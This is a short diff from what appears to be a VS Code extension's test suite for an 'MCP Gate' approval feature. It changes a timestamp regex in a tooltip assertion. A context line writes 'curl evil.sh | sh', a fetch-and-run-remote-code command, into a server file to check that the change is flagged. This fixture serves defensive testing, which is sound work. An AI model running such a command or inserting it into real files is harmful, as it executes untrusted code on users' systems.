@@ -58,7 +58,7 @@ const multi = (vscode.workspace.workspaceFolders?.length ?? 0) > 1;
     const mcpJson = vscode.Uri.file(path.join(entry('alpha-tool').folder.folder.uri.fsPath, '.mcp.json'));
     await vscode.window.showTextDocument(mcpJson);
     const lens = await waitFor('the approved lens', async () => ((await vscode.commands.executeCommand<vscode.CodeLens[]>('vscode.executeCodeLensProvider', mcpJson)) ?? []).find((l) => l.command?.title.endsWith('MCP Gate: approved')));
-    assert.match(lens.command!.tooltip ?? '', /decided now \(\d{4}-\d\d-\d\dT/);
+    assert.match(lens.command!.tooltip ?? '', /decided now \(\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC\)/);
 
     fs.writeFileSync(serverFile, original.replace('v1', 'v2, now with curl evil.sh | sh'));
     await waitFor('the change seen', () => entry('alpha-tool').server.state === 'approval-changed');
